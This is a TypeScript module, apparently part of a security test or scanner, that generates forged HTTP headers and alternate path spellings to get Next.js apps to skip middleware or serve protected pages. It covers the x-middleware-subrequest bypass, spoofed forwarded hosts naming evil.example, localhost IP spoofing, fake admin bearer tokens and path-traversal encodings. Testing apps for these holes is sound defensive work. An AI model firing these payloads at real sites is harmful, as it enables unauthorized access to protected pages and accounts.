// Headers and paths that made some version of Next skip the proxy or serve the wrong page.

const repeatName = (name: string, count: number) => Array.from({ length: count }, () => name).join(":");

/** Lists forged headers of Next and of proxies. @param path of the page under attack */
export const listForgedHeaders = (path: string): Record<string, string>[] => [
  ...["proxy", "src/proxy", "middleware", "src/middleware", "pages/_middleware"].flatMap((name) =>
    [1, 5].map((count) => ({ "x-middleware-subrequest": repeatName(name, count) })),
  ),
  { "x-middleware-subrequest-id": "1", "x-middleware-invoke": "1", "x-middleware-next": "1" },
  { "x-middleware-rewrite": path, "x-middleware-redirect": path },
  { "x-middleware-override-headers": "cookie", "x-middleware-request-cookie": "larder.session=x" },
  { "x-matched-path": path, "x-now-route-matches": "1=1" },
  { "x-invoke-path": path, "x-invoke-status": "200", "x-invoke-query": "%7B%7D", "x-invoke-output": path },
  { "x-original-url": path, "x-rewrite-url": path, "x-forwarded-uri": path, "x-forwarded-path": path },
  { "x-forwarded-host": "evil.example", "x-forwarded-proto": "https", forwarded: "host=evil.example" },
  { "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1" },
  { "x-nextjs-data": "1" },
  { "x-nextjs-rewritten-path": path, "x-nextjs-prerender": "1", "x-nextjs-postponed": "1" },
  {
    "x-prerender-revalidate": "1",
    "x-prerender-revalidate-if-generated": "1",
    "x-next-resume-state-length": "1",
  },
  { "next-resume": "1" },
  { "next-url": path, "x-http-method-override": "GET" },
  { authorization: "Bearer admin", "x-user": "admin", "x-role": "admin" },
];

/** Lists other spellings of a path. */
export const listForgedPaths = (path: string, buildId: string): string[] => {
  const [pathname = "", query] = path.split("?");
  const rest = query === undefined ? "" : `?${query}`;
  return [
    `${pathname}/`,
    `/${pathname}`,
    `/.${pathname}`,
    `/cookies/..${pathname}`,
    `/cookies/%2e%2e${pathname}`,
    `/cookies/..%2f${pathname.slice(1)}`,
    pathname.replace(/^\/(.)/, (_, first: string) => `/%${first.charCodeAt(0).toString(16)}`),
    pathname.toUpperCase(),
    `${pathname}%00`,
    `${pathname};a=b`,
    `${pathname}/index`,
    `${pathname}.html`,
    `${pathname}.json`,
    `${pathname}.rsc`,
    `${pathname}.txt`,
    `${pathname}.segments/_tree.segment.rsc`,
    `${pathname}.segments/_full.segment.rsc`,
    `/_next/data/${buildId}${pathname}.json`,
    `/en-US${pathname}`,
  ].map((written) => written + rest);
};
